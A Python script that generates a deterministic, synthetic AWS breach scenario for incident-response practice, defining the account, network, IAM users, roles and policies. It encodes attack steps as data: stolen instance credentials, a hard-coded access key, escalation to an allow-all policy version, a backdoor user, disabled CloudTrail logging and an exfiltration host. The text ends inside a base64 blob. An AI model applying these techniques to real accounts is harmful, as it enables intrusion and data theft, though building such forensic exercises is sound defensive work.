#!/usr/bin/env python3
"""Generate examples/incident-3tier: a breached three-tier web system in one AWS account.

The output is a CLI-dir snapshot (the unmodified JSON the AWS CLI v2 prints, one file per command)
taken on 2026-03-14T12:00:00Z, plus the logs of the incident on 2026-03-12/13: CloudTrail (with one
digest file), VPC Flow Logs, Application Load Balancer access logs and the nginx access logs of the
two web servers. examples/incident-3tier/README.md, also written here, tells the story and lists every
identifier as ground truth.

Everything is deterministic: identifiers are derived from names with SHA-256, random choices come
from random.Random seeded with fixed strings, gzip members carry mtime 0 and no file name, and all
times are fixed. Running the script twice gives byte-identical files.

Usage:
    python3 scripts/gen_incident_example.py            # (re)write examples/incident-3tier
    python3 scripts/gen_incident_example.py --check    # regenerate into a temp dir and compare

--check exits 1 and lists the differing files when the committed tree is not what this script
writes. Gzip files are compared by their decompressed content, so a different zlib build does not
count as a difference. Both modes also run the self-consistency checks at the end of this file
(every referenced subnet, group, interface, role, key and bucket exists, logs agree with the
snapshot) and fail when one does not hold.

Standard library only (Python 3.11).
"""
from __future__ import annotations

import argparse
import base64
import datetime as dt
import gzip
import hashlib
import io
import ipaddress
import json
import lzma
import math
import random
import re
import shutil
import sys
import tempfile
import urllib.parse
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "examples" / "incident-3tier"

# ---------------------------------------------------------------------------------------------
# The account and its neighbours
# ---------------------------------------------------------------------------------------------
ACCOUNT = "123456789012"
REGION = "us-east-1"
ORG_ID = "o-a1b2c3d4e5"
MGMT_ACCOUNT = "111111111111"
SANDBOX_ACCOUNT = "210987654321"
PARTNER_ACCOUNT = "444455556666"  # outside the organisation; granted read on the customer data
ELB_LOG_ACCOUNT = "127311923021"  # the Elastic Load Balancing account that writes us-east-1 logs
ROOT_ID = "r-4f8b"
OU_WORKLOADS = "ou-4f8b-2k9d7x1m"
OU_SANDBOX = "ou-4f8b-8q3n5v6c"
SCP_DENY_LEAVE = "p-3m8q2x7k"
SITE = "shop.acme-corp.example"

ATTACKER_WEB_IP = "203.0.113.45"  # web exploit, stolen instance credentials
ATTACKER_VPS_IP = "198.51.100.77"  # batch-job key, developer-role, svc-backup, exfil endpoint
OFFICE_CIDR = "192.0.2.0/24"
ALICE_IP = "192.0.2.10"
BOB_IP = "192.0.2.23"
ROOT_LOGIN_IP = "192.0.2.31"
ATTACKER_CLI_UA = "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2024 prompt/off"

UTC = dt.timezone.utc


def utc(*a: int) -> dt.datetime:
    return dt.datetime(*a, tzinfo=UTC)


SNAPSHOT_AT = utc(2026, 3, 14, 12, 0, 0)
CT_START = utc(2026, 3, 12, 0, 0, 0)  # CloudTrail: both days
CT_END = utc(2026, 3, 14, 0, 0, 0)
NET_START = utc(2026, 3, 12, 8, 0, 0)  # flow, ALB and nginx logs: the incident window
NET_END = utc(2026, 3, 13, 11, 0, 0)
STOP_LOGGING_AT = utc(2026, 3, 12, 10, 13, 5)
START_LOGGING_AT = utc(2026, 3, 13, 9, 15, 40)


def cli_ts(t: dt.datetime) -> str:
    """A timestamp as the AWS CLI v2 prints it (cli_timestamp_format = iso8601)."""
    return t.isoformat()


def ct_ts(t: dt.datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def epoch(t: dt.datetime) -> int:
    return int(t.timestamp())


def java_date(t: dt.datetime, comma: bool) -> str:
    """Dates inside CloudTrail responseElements: 'Mar 12, 2026 9:38:05 AM' (IAM), with a comma
    after the year for STS ('Mar 12, 2026, 3:14:05 PM')."""
    h = t.hour % 12 or 12
    sep = ", " if comma else " "
    return f"{t.strftime('%b')} {t.day}, {t.year}{sep}{h}:{t.strftime('%M:%S')} {'AM' if t.hour < 12 else 'PM'}"


# ---------------------------------------------------------------------------------------------
# Deterministic identifiers
# ---------------------------------------------------------------------------------------------
def digest(*parts: str) -> bytes:
    return hashlib.sha256(("keyaki/incident-3tier/" + "/".join(parts)).encode()).digest()


def hexid(prefix: str, name: str, n: int = 17) -> str:
    return f"{prefix}-{digest(prefix, name).hex()[:n]}"


def hexstr(name: str, n: int) -> str:
    return digest("hex", name).hex()[:n]


def det_uuid(name: str) -> str:
    return str(uuid.UUID(bytes=digest("uuid", name)[:16], version=4))


def alnum(name: str, n: int, alphabet: str = "abcdefghijklmnopqrstuvwxyz0123456789") -> str:
    d = digest("alnum", name)
    while len(d) < n:
        d += digest("alnum", name, str(len(d)))
    return "".join(alphabet[b % len(alphabet)] for b in d[:n])


def _account_bytes(account: str, name: str, extra: int) -> bytes:
    # IAM key and unique IDs carry the account: bits 7..46 of the first six bytes (base32).
    d = digest("iam", name)
    z = (int(account) << 7) | (d[0] & 0x7F)
    return z.to_bytes(6, "big") + d[1 : 1 + extra]


def access_key_id(prefix: str, name: str, account: str = ACCOUNT) -> str:
    """AKIA/ASIA + 16 base32 characters that decode to the owning account, as AWS's do."""
    return prefix + base64.b32encode(_account_bytes(account, prefix + name, 4)).decode()


def unique_id(prefix: str, name: str, account: str = ACCOUNT) -> str:
    """AIDA/AROA/ANPA/AIPA + 17 characters (21 in all)."""
    return prefix + base64.b32encode(_account_bytes(account, prefix + name, 5)).decode()[:17]


def session_token(name: str) -> str:
    raw = b"".join(digest("token", name, str(i)) for i in range(14))
    return "IQoJb3JpZ2luX2VjE" + base64.b64encode(raw).decode()[:560]


def tags(**kv: str) -> list[dict]:
    return [{"Key": k, "Value": v} for k, v in kv.items()]


def std_tags(name: str, owner: str = "platform-team") -> list[dict]:
    return tags(Name=name, Environment="prod", Owner=owner)


def enc(s: str) -> str:
    """A resource identifier as a folder name: '/' -> %2F, ':' -> %3A."""
    return s.replace("/", "%2F").replace(":", "%3A")


def compact(obj) -> str:
    return json.dumps(obj, separators=(",", ":"))


def jackson(v, ind: int = 0) -> str:
    """Pretty JSON the way AWS's Java services return stored policies (KMS, Secrets Manager)."""
    sp = "  "
    if isinstance(v, dict):
        if not v:
            return "{ }"
        items = [f"{sp * (ind + 1)}{json.dumps(k)} : {jackson(x, ind + 1)}" for k, x in v.items()]
        return "{\n" + ",\n".join(items) + "\n" + sp * ind + "}"
    if isinstance(v, list):
        if not v:
            return "[ ]"
        return "[ " + ", ".join(jackson(x, ind) for x in v) + " ]"
    return json.dumps(v)


def org_pretty(obj) -> str:
    """Organizations policy content as pasted in the console (2-space JSON)."""
    return json.dumps(obj, indent=2)


# ---------------------------------------------------------------------------------------------
# The network
# ---------------------------------------------------------------------------------------------
VPC_ID = hexid("vpc", "prod")
VPC_CIDR = "10.0.0.0/16"
DHCP_ID = hexid("dopt", "default")
IGW_ID = hexid("igw", "prod")
NAT_ID = hexid("nat", "prod-a")
VPCE_S3 = hexid("vpce", "s3")
S3_PL = "pl-63a5400a"  # com.amazonaws.us-east-1.s3
DDB_PL = "pl-02cd2c6b"  # com.amazonaws.us-east-1.dynamodb
OFFICE_PL = hexid("pl", "office")
FLOW_LOG_ID = hexid("fl", "prod-vpc")
AZ_ID = {"us-east-1a": "use1-az6", "us-east-1b": "use1-az1"}

# key: (Name tag, CIDR, AZ, tier)
SUBNETS = {
    "public-a": ("prod-public-a", "10.0.0.0/24", "us-east-1a", "public"),
    "public-b": ("prod-public-b", "10.0.1.0/24", "us-east-1b", "public"),
    "app-a": ("prod-app-a", "10.0.10.0/24", "us-east-1a", "app"),
    "app-b": ("prod-app-b", "10.0.11.0/24", "us-east-1b", "app"),
    "db-a": ("prod-db-a", "10.0.20.0/24", "us-east-1a", "db"),
    "db-b": ("prod-db-b", "10.0.21.0/24", "us-east-1b", "db"),
}
SUBNET_ID = {k: hexid("subnet", k) for k in SUBNETS}

SG = {  # key: (GroupName, Description)
    "default": ("default", "default VPC security group"),
    "alb": ("web-alb-sg", "Internet-facing ALB: HTTP and HTTPS from anywhere"),
    "web": ("web-sg", "Web servers: HTTP from the ALB, SSH from the bastion"),
    "debug": ("debug-sg", "temp test - remove"),
    "bastion": ("bastion-sg", "Bastion host SSH"),
    "db": ("db-sg", "prod-db MySQL from the web servers"),
}
SG_ID = {k: hexid("sg", k) for k in SG}

RTB_ID = {k: hexid("rtb", k) for k in ("main", "public", "private")}
ACL_ID = {k: hexid("acl", k) for k in ("default", "db")}

EIP = {  # key: (public IP, allocation id, association id)
    "nat": ("44.206.118.23", hexid("eipalloc", "nat"), hexid("eipassoc", "nat")),
    "bastion": ("3.222.47.105", hexid("eipalloc", "bastion"), hexid("eipassoc", "bastion")),
}

ALB_NAME = "web-alb"
ALB_ID = hexstr("alb", 16)
ALB_ARN = f"arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:loadbalancer/app/{ALB_NAME}/{ALB_ID}"
ALB_DNS = f"{ALB_NAME}-{int(hexstr('albdns', 8), 16) % 10**10:010d}.{REGION}.elb.amazonaws.com"
ALB_RESOURCE = f"app/{ALB_NAME}/{ALB_ID}"
TG_ARN = f"arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:targetgroup/web-tg/{hexstr('tg', 16)}"
LISTENER_ARN = {p: f"arn:aws:elasticloadbalancing:{REGION}:{ACCOUNT}:listener/{ALB_RESOURCE}/{hexstr(f'listener{p}', 16)}"
                for p in (80, 443)}
CERT_ARN = f"arn:aws:acm:{REGION}:{ACCOUNT}:certificate/{det_uuid('cert')}"
ALB_CREATED = utc(2025, 11, 4, 8, 41, 17, 284000)
# the ALB's two nodes: (subnet, private IP, public IP)
ALB_NODES = [("public-a", "10.0.0.87", "52.4.181.90"), ("public-b", "10.0.1.201", "54.164.33.12")]

INSTANCES = {
    "web-1": dict(subnet="app-a", ip="10.0.10.37", type="t3.small", sgs=["web", "debug"], profile=True,
                  http_tokens="optional", launch=utc(2025, 11, 4, 9, 12, 31), key="prod-web",
                  ami=hexid("ami", "al2023-2025-10"), root_gb=20, encrypted=True),
    "web-2": dict(subnet="app-b", ip="10.0.11.58", type="t3.small", sgs=["web"], profile=True,
                  http_tokens="optional", launch=utc(2025, 11, 4, 9, 12, 33), key="prod-web",
                  ami=hexid("ami", "al2023-2025-10"), root_gb=20, encrypted=True),
    "bastion": dict(subnet="public-a", ip="10.0.0.12", type="t3.micro", sgs=["bastion"], profile=False,
                    http_tokens="required", launch=utc(2025, 2, 17, 13, 5, 2), key="bastion",
                    ami=hexid("ami", "al2023-2025-01"), root_gb=8, encrypted=False),
}
INSTANCE_ID = {k: hexid("i", k) for k in INSTANCES}
RDS_IP = "10.0.20.14"
NAT_PRIVATE_IP = "10.0.0.145"

# network interfaces: key -> description of who owns it
ENI_ID = {k: hexid("eni", k) for k in ("web-1", "web-2", "bastion", "alb-a", "alb-b", "nat", "rds")}
ENI_IP = {"web-1": "10.0.10.37", "web-2": "10.0.11.58", "bastion": "10.0.0.12", "alb-a": ALB_NODES[0][1],
          "alb-b": ALB_NODES[1][1], "nat": NAT_PRIVATE_IP, "rds": RDS_IP}
VOLUME_ID = {k: hexid("vol", k) for k in INSTANCES}

S3_PL_CIDRS = ["3.5.0.0/19", "16.182.0.0/16", "18.34.0.0/19", "18.34.232.0/21", "52.216.0.0/15", "54.231.0.0/16"]


def mac(name: str) -> str:
    d = digest("mac", name)
    return "0a:" + ":".join(f"{b:02x}" for b in d[:5])


def private_dns(ip: str) -> str:
    return "ip-" + ip.replace(".", "-") + ".ec2.internal"


def public_dns(ip: str) -> str:
    return "ec2-" + ip.replace(".", "-") + ".compute-1.amazonaws.com"


# ---------------------------------------------------------------------------------------------
# Data services
# ---------------------------------------------------------------------------------------------
CANONICAL_ID = digest("canonical", ACCOUNT).hex()
TRAIL = "management-trail"
TRAIL_ARN = f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/{TRAIL}"
TRAIL_BUCKET = f"acme-cloudtrail-logs-{ACCOUNT}"
LOG_BUCKET = f"acme-network-logs-{ACCOUNT}"
DATA_BUCKET = "acme-customer-data"
ASSETS_BUCKET = "acme-web-assets"
BUCKETS = {  # name -> creation time
    ASSETS_BUCKET: utc(2024, 5, 14, 10, 2, 44),
    DATA_BUCKET: utc(2024, 5, 14, 10, 5, 19),
    TRAIL_BUCKET: utc(2024, 1, 15, 9, 41, 3),
    LOG_BUCKET: utc(2025, 11, 4, 8, 30, 55),
}
SECRET_NAME = "prod/db/password"
SECRET_ARN = f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:{SECRET_NAME}-{alnum('secret', 6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}"
TOPIC_ARN = f"arn:aws:sns:{REGION}:{ACCOUNT}:security-alerts"
QUEUE_NAME = "batch-jobs"
QUEUE_URL = f"https://sqs.{REGION}.amazonaws.com/{ACCOUNT}/{QUEUE_NAME}"
QUEUE_ARN = f"arn:aws:sqs:{REGION}:{ACCOUNT}:{QUEUE_NAME}"
FUNCTION = "thumbnailer"
FUNCTION_ARN = f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:{FUNCTION}"
DETECTOR_ID = digest("guardduty").hex()[:32]
DETECTOR_ARN = f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR_ID}"
KMS = {  # key -> (alias, description, manager, created)
    "rds": ("alias/prod-rds", "prod-db storage encryption", "CUSTOMER", utc(2024, 6, 11, 14, 30, 2, 120000)),
    # created when acme-customer-data moved to SSE-KMS; its yearly rotation falls on 2026-03-13
    "aws-s3": ("alias/aws/s3", "Default key that protects my S3 objects when no other key is defined", "AWS",
               utc(2025, 3, 13, 10, 31, 5, 402000)),
    "aws-ebs": ("alias/aws/ebs", "Default key that protects my EBS volumes when no other key is defined", "AWS",
                utc(2025, 2, 17, 13, 4, 40, 771000)),
    "aws-secretsmanager": ("alias/aws/secretsmanager",
                           "Default key that protects my Secrets Manager data when no other key is defined", "AWS",
                           utc(2024, 6, 11, 14, 35, 9, 118000)),
}
KMS_ID = {k: det_uuid("kms-" + k) for k in KMS}


def kms_arn(k: str) -> str:
    return f"arn:aws:kms:{REGION}:{ACCOUNT}:key/{KMS_ID[k]}"


RDS_ID = "prod-db"
RDS_ENDPOINT = f"{RDS_ID}.c{alnum('rdsendpoint', 11)}.{REGION}.rds.amazonaws.com"

# ---------------------------------------------------------------------------------------------
# IAM
# ---------------------------------------------------------------------------------------------
def user_arn(name: str) -> str:
    return f"arn:aws:iam::{ACCOUNT}:user/{name}"


def role_arn(name: str, path: str = "/") -> str:
    return f"arn:aws:iam::{ACCOUNT}:role{path}{name}"


def policy_arn(name: str) -> str:
    return f"arn:aws:iam::{ACCOUNT}:policy/{name}"


AWS_POLICY_META = {  # name -> (PolicyId, Path, DefaultVersionId, CreateDate, UpdateDate), from IAM
    "AdministratorAccess": ("ANPAIWMBCKSKIEE64ZLYK", "/", "v1", utc(2015, 2, 6, 18, 39, 46), utc(2015, 2, 6, 18, 39, 46)),
    "ReadOnlyAccess": ("ANPAILL3HVNFSB6DCOWYQ", "/", "v178", utc(2015, 2, 6, 18, 39, 48), utc(2026, 2, 12, 18, 1, 33)),
    "AmazonSSMManagedInstanceCore": ("ANPAIXSHM2BNB2D3AXXRU", "/", "v2", utc(2019, 3, 15, 17, 22, 12), utc(2019, 5, 23, 16, 54, 21)),
    "AWSLambdaBasicExecutionRole": ("ANPAJNCQGXC42545SKXIK", "/service-role/", "v1", utc(2015, 4, 9, 15, 3, 43), utc(2015, 4, 9, 15, 3, 43)),
    "AWSElasticLoadBalancingServiceRolePolicy": ("ANPAIMHWGGSRHLOQUICJQ", "/aws-service-role/", "v14", utc(2017, 9, 19, 22, 19, 4), utc(2026, 2, 12, 17, 58, 8)),
    "AWSConfigServiceRolePolicy": ("ANPAJUCWFHNZER665LLQQ", "/aws-service-role/", "v90", utc(2018, 5, 30, 23, 31, 46), utc(2026, 2, 24, 22, 57, 6)),
    "AmazonGuardDutyServiceRolePolicy": ("ANPAIHZREZOWNSSA6FWQO", "/aws-service-role/", "v10", utc(2017, 11, 28, 20, 12, 59), utc(2024, 8, 12, 20, 1, 11)),
    "AWSSecurityHubServiceRolePolicy": ("ANPAJQPCESDDYDLLSOGYO", "/aws-service-role/", "v14", utc(2018, 11, 27, 23, 47, 51), utc(2023, 11, 27, 3, 46, 47)),
    "AmazonRDSServiceRolePolicy": ("ANPAIPEU5ZOBJWKWHUIBA", "/aws-service-role/", "v14", utc(2018, 1, 8, 18, 17, 46), utc(2024, 7, 1, 22, 42, 5)),
}


def aws_policy_arn(name: str) -> str:
    return f"arn:aws:iam::aws:policy{AWS_POLICY_META[name][1]}{name}"


USERS = {  # name -> created
    "alice": utc(2024, 2, 5, 10, 21, 9),
    "bob": utc(2024, 3, 11, 14, 2, 51),
    "batch-job": utc(2024, 9, 18, 16, 44, 3),
    "ci-deploy": utc(2025, 1, 22, 11, 30, 40),
    "svc-backup": utc(2026, 3, 12, 9, 38, 5),  # created by the attacker
}
USER_ID = {u: unique_id("AIDA", u) for u in USERS}
GROUPS = {"Admins": utc(2024, 2, 5, 10, 18, 44), "Developers": utc(2024, 3, 11, 13, 58, 12)}
GROUP_ID = {g: unique_id("AGPA", g) for g in GROUPS}
ACCESS_KEY = {
    "alice": access_key_id("AKIA", "alice-1"),
    "bob": access_key_id("AKIA", "bob-1"),
    "batch-job": access_key_id("AKIA", "batch-job-1"),  # hard-coded in the web application
    "ci-deploy-1": access_key_id("AKIA", "ci-deploy-1"),
    "ci-deploy-2": access_key_id("AKIA", "ci-deploy-2"),
    "svc-backup": access_key_id("AKIA", "svc-backup-1"),  # created by the attacker
}
ROLES = {  # name -> (path, created, last used, last used region)
    "web-server-role": ("/", utc(2025, 11, 4, 8, 55, 12), utc(2026, 3, 14, 11, 52, 10)),
    "developer-role": ("/", utc(2025, 4, 2, 15, 12, 37), utc(2026, 3, 12, 10, 13, 5)),
    "OrganizationAccountAccessRole": ("/", utc(2024, 1, 15, 9, 0, 41), utc(2025, 12, 2, 16, 20, 0)),
    "thumbnailer-role": ("/", utc(2025, 5, 20, 12, 1, 8), utc(2026, 3, 14, 10, 12, 44)),
    "AWSServiceRoleForElasticLoadBalancing": ("/aws-service-role/elasticloadbalancing.amazonaws.com/",
                                              utc(2024, 6, 11, 13, 58, 2), utc(2026, 3, 14, 11, 40, 0)),
    "AWSServiceRoleForConfig": ("/aws-service-role/config.amazonaws.com/", utc(2024, 1, 15, 9, 35, 12),
                                utc(2026, 3, 14, 11, 55, 0)),
    "AWSServiceRoleForAmazonGuardDuty": ("/aws-service-role/guardduty.amazonaws.com/", utc(2024, 1, 15, 9, 36, 30),
                                         utc(2026, 3, 14, 11, 50, 0)),
    "AWSServiceRoleForSecurityHub": ("/aws-service-role/securityhub.amazonaws.com/", utc(2024, 6, 12, 9, 30, 9),
                                     utc(2026, 3, 14, 11, 45, 0)),
    "AWSServiceRoleForRDS": ("/aws-service-role/rds.amazonaws.com/", utc(2024, 6, 11, 14, 39, 55),
                             utc(2026, 3, 14, 6, 10, 0)),
}
ROLE_ID = {r: unique_id("AROA", r) for r in ROLES}
INSTANCE_PROFILE_ID = unique_id("AIPA", "web-server-profile")
INSTANCE_PROFILE_ARN = f"arn:aws:iam::{ACCOUNT}:instance-profile/web-server-profile"
SLR_SERVICE = {
    "AWSServiceRoleForElasticLoadBalancing": ("elasticloadbalancing.amazonaws.com", "AWSElasticLoadBalancingServiceRolePolicy"),
    "AWSServiceRoleForConfig": ("config.amazonaws.com", "AWSConfigServiceRolePolicy"),
    "AWSServiceRoleForAmazonGuardDuty": ("guardduty.amazonaws.com", "AmazonGuardDutyServiceRolePolicy"),
    "AWSServiceRoleForSecurityHub": ("securityhub.amazonaws.com", "AWSSecurityHubServiceRolePolicy"),
    "AWSServiceRoleForRDS": ("rds.amazonaws.com", "AmazonRDSServiceRolePolicy"),
}


def rarn(role: str) -> str:
    return role_arn(role, ROLES[role][0])


CUSTOMER_POLICIES = {  # name -> (created, versions[(id, created, document)], default)
    "developer-policy": utc(2025, 4, 2, 15, 10, 2),
    "ci-deploy-policy": utc(2025, 1, 22, 11, 28, 13),
    "ci-deploy-boundary": utc(2025, 1, 22, 11, 27, 40),
}
CUSTOMER_POLICY_ID = {p: unique_id("ANPA", p) for p in CUSTOMER_POLICIES}
ESCALATION_AT = utc(2026, 3, 12, 9, 36, 48)  # CreatePolicyVersion v2, SetAsDefault

DEVELOPER_POLICY_V1 = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "DeveloperTools", "Effect": "Allow",
         "Action": ["lambda:Get*", "lambda:List*", "lambda:UpdateFunctionCode", "logs:Describe*", "logs:Get*",
                    "logs:FilterLogEvents", "cloudwatch:Get*", "cloudwatch:List*", "ec2:Describe*",
                    "sqs:GetQueueAttributes", "sqs:ReceiveMessage", "sqs:SendMessage"],
         "Resource": "*"},
        {"Sid": "WebAssets", "Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject", "s3:ListBucket"],
         "Resource": [f"arn:aws:s3:::{ASSETS_BUCKET}", f"arn:aws:s3:::{ASSETS_BUCKET}/*"]},
        {"Sid": "ManageOwnPolicy", "Effect": "Allow",
         "Action": ["iam:GetPolicy", "iam:GetPolicyVersion", "iam:ListPolicyVersions", "iam:CreatePolicyVersion",
                    "iam:DeletePolicyVersion", "iam:SetDefaultPolicyVersion"],
         "Resource": policy_arn("developer-policy")},
        {"Sid": "ReadOwnRole", "Effect": "Allow",
         "Action": ["iam:GetRole", "iam:ListAttachedRolePolicies", "iam:ListRolePolicies"],
         "Resource": role_arn("developer-role")},
    ],
}
DEVELOPER_POLICY_V2 = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}

WEB_ROLE_POLICY = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "ReadWebAssets", "Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": [f"arn:aws:s3:::{ASSETS_BUCKET}", f"arn:aws:s3:::{ASSETS_BUCKET}/*"]},
        {"Sid": "ReadDatabaseSecret", "Effect": "Allow",
         "Action": ["secretsmanager:GetSecretValue", "secretsmanager:DescribeSecret"],
         "Resource": f"arn:aws:secretsmanager:{REGION}:{ACCOUNT}:secret:{SECRET_NAME}-*"},
        {"Sid": "Discovery", "Effect": "Allow", "Action": ["ec2:Describe*", "iam:List*", "iam:Get*"], "Resource": "*"},
        {"Sid": "AppLogs", "Effect": "Allow", "Action": ["logs:CreateLogStream", "logs:PutLogEvents"],
         "Resource": f"arn:aws:logs:{REGION}:{ACCOUNT}:log-group:/prod/web:*"},
    ],
}
BATCH_JOB_POLICY = {
    "Version": "2012-10-17",
    "Statement": [
        {"Sid": "ReadCustomerData", "Effect": "Allow", "Action": ["s3:GetObject", "s3:ListBucket"],
         "Resource": [f"arn:aws:s3:::{DATA_BUCKET}", f"arn:aws:s3:::{DATA_BUCKET}/*"]},
        {"Sid": "BatchQueue", "Effect": "Allow",
         "Action": ["sqs:ReceiveMessage", "sqs:DeleteMessage", "sqs:GetQueueAttributes", "sqs:SendMessage"],
         "Resource": QUEUE_ARN},
        {"Sid": "NightlyReportRole", "Effect": "Allow", "Action": "sts:AssumeRole", "Resource": role_arn("developer-role")},
    ],
}
DEVELOPER_ROLE_TRUST = {
    "Version": "2012-10-17",
    "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ACCOUNT}:root"}, "Action": "sts:AssumeRole",
         "Condition": {"Bool": {"aws:MultiFactorAuthPresent": "true"}}},
        {"Sid": "NightlyReportJob", "Effect": "Allow", "Principal": {"AWS": user_arn("batch-job")},
         "Action": "sts:AssumeRole"},
    ],
}


def service_trust(service: str) -> dict:
    return {"Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Principal": {"Service": service}, "Action": "sts:AssumeRole"}]}


# AWS managed policy documents as IAM returns them (aws iam get-policy-version), at the default
# version listed in AWS_POLICY_META: lzma-compressed JSON {name: document}, base64.
AWS_MANAGED_DOCUMENTS = """
/Td6WFoAAATm1rRGAgAhARwAAAAQz1jM4ok6YV9dAD2IhCVyuPEu19Gxbn6Dpq6jLxn23xPEreA9hdN8cKKUO9ZO4tnBlc+n8UCG
gH6FlZ5wVOaS12Y5QRlxp9G6gw6UxSlcYMgSA1ynM1EOr+845tkC0MxI/ptJKHAD1DM6qqqC/fUO7Q8QkRYSIdOEKhrLziF4wPlB
0X6etWc5O1lUe2tSmRPcIT4w7o0z0AfFJttOQhGYHafuxwoFi7G9kOXZLmtEKlTQDTAOGxaU1rIBAJEFkv7rYawIROK3XD8h8SVd
K2JXxZ7kWY0w59FAU+NAIqDsfDPByWuZgv9eaeef50jo+0m9zbS7t6olPKlxGQFUiGwye8+PZFcEjI9a0b1yBVJ2/BEtfRbxiVFS
dxzf12gyWyirScYD41xcI25MAmh/xRBdgsZbDZCsRptKnH7InVCqlLJbNqiTZE/pbOtQn3ntCfAQBgXB/Z8qghF8KarhtXcazE6v
tAh4yrcUU0xjl+jyHrnvTroCzMNMoa7IFZIAUkJMBtAloJcNj5J/c/zBUaRyTN39G4l7hsMGYpuAn2eqdomtR+3mpRh7AUPWSjO2
K4ajJPTUS632njyrrIC7mhwY2oCeYm8YoqwNqRKhiX7ET+r7aR4X7+EeRKLChMp8zNrbYEJR+idr6Tc8b3HuwzhBdBc42pl4mH9Z
/uQl/NkoH9NQ04Hoxy0l8UhZHE91UjrtbDpeMVEUD2GamDbaeH+YnZKbT7bGYyurw3Ij7l7u52LmL0KYpZM0dijcGPVGCuKSGZN6
bCao/fmbzO8R4FqnUwYiiPRXsy2ZXJ4Tl4uBsy+zHN1dq5SP1JWEU+f+MiQHhD35nrDgfnY02mrDzs0D4rd4NUiwK1nv1bT3OVbj
CTZDqlKQ8ml1XPupao3Z2Cyx/NK+1rGtl2RqOQTjYQcDcFzRWK3i1orlFq34cuvWHqOIg5z6g18K62gwLr4dBjq4nhOrlZsHoKqK
rSkaAzD8vJFEnItiW4jNX3LHUwK2C1i+2foiLuznQseWFWwU6eGJQAJ2KAdAWB1T5dFKP7zoSnDmz78Tpwzcm2tlfb/pCC84Gb9U
Baoi/OoiG5dNjp1DP51pHOHJvzhdgWupa3MENN9MU0ebxKVB8swZdh41S8YY1JQwxy+E3W1hMa1BOvg2FK1uMohGJcR5iIMC56hp
xjrM0iFKY0FAUovSNroWsLz3TdPiOKGhgy40oJhCELwRFAgJql42AKXlyTE0jlJyU9Hl59FRJbxSsn+uExCIzz1FaT03Bz4vHL3K
Mh+gVJg8WBkDVuYPx6t82Q6Wz5n5f9EwEQuqSMmsh5gW1Dmk48ISH7G0YIAdG20nofQKNfqaop3JK2PlY0lYAaOxRjQ/blBNa6DN
X+PnTqyhXYIHJwPxQx4w1n5XNrdsSsGXqLwmYzcRC+3ayKrWd2Tqb4S/OYIPT7a2BCGlR6EkrRBrdSR7qi14quXoQYL76TJ79tlU
RW8H5+fjGb99ysdzoZcYKT9RfbPEvOajFMaJUCFzLLTCAOqRLv0dO1mwy3cHB5n/kdyI09jS1htzM/gs7uMh+qKghuvaSx/GgKfH
CQopwTJ3RBO7dtR+n1n4AZbRrIXEiEKtClmXVjn+6LuqGilifhaTlM53JwKxrGG58NoFfSYpDrDbyKaQlmRGiuEpRwvCHDMTrNNi
ZkEC9UjJjAOTZplPEFErbkj1SnzJeSLTPT+z426sMiC94d9Ow8swC1i6F95Sfzd8opqdvAKLqaV5ghfUGIlJ+j89xB5l0kGP4SbZ
9zdh5MqL+V9LtNMinGEJHXrHuZlp+dG59JY17OQLiLaT4MQ/TWnw5mh3PJQXEi+ECMhP239b8QKeTvqPKp42iNiPpcrtWinrWPVE
TP5tM/XUr43pIVPIC2FYmXMxjSnUmsUYhCC2Gya7X3z3qt1ka/VteKVPBTosFrcGX+3nobuuDSAY1zCLbsQDcK62Qa87lhitnUU3
LTXcqt+0qXEDbce7zGc0KX+XdvQh2uxS+VN3HSoZ2tq/AcjM4R61IIyrqTE5xxuyT8Qz0jafa9Wm5+i0gANxw5syZyQLBeQ5z6o1
Ijk7cjbVWsVvspRKcmSuHBL0DEGbhlGxsaM6YtNuLyT2xpuRsOh0iRnvXUXeysefWtug47rwpV7tKDmaysODBjzhF4WZW6e4+e6z
glmZLxt3hCOABZaIDfCSxoH3k9jpJZl32egu08TpLageuKo9H/ljmff0KcmmjaaNaYbrsamTrl38534HkzUgkfefTLxRrjCnWZKD
1jKQDKi64ckc0J/k1lVTinU7fQBs9INyCganzsp2TLoD/JwLwReFTgM9ARCQoTGybeDVtkbriECFVgIvEMpFH6t52JYeJwE2eNn2
DigWZVBGarlMSdkuJf8Bcb+TeLT/M7wzMI2l729Q6daYEI1A3myqBCKkc7bmmMtDJlnPrG0hzKVF4E9xKj1gr6N6rkQUEwOw+qMy
VFR+Kn1XEbT7ZY5aDI6iskLQAFM98Gu+TFpjNjGHOoXmuvrmpcyZB8nRdp7MHmhoKJvFnD1besfNo6OgiHMrqle1pQnwcWKuo8vR
7tbQfijABUIGlxDed5wcL7pSMttGd7Bk84xjQUztW3vCRxASjkJ4Bq03zBO6gvxytcIodQ+4f0hIg7cIsp/qOMa11pjAcId9jFGO
7vA8OLaWNe90YOoM+8yI4//1BdYYolhM6eEEH7MyDNHzU24dsnLFi2BhCcETEBuk+aIlIUabnZTBPLM7Qla0FfmPb2qouBmgLM8K
Tu00ACW4i7wc8s1CkEuGUwLJHCLVvU0/v5j+WnYwECV3fy3Ba1wu17ZypRhptZaraWQq6/YzLyAkrs4mRk2Lk/pZ55aRXL78+xhF
eu7RoXFXP8sNDPrku5PVczjxkiPbHtjgyDBpITHsdLLPRe7I9LwDrP5luDubHpQk7xwywhoFbQ2lwFi5JfyJ/jc0K+rykZIyvQqb
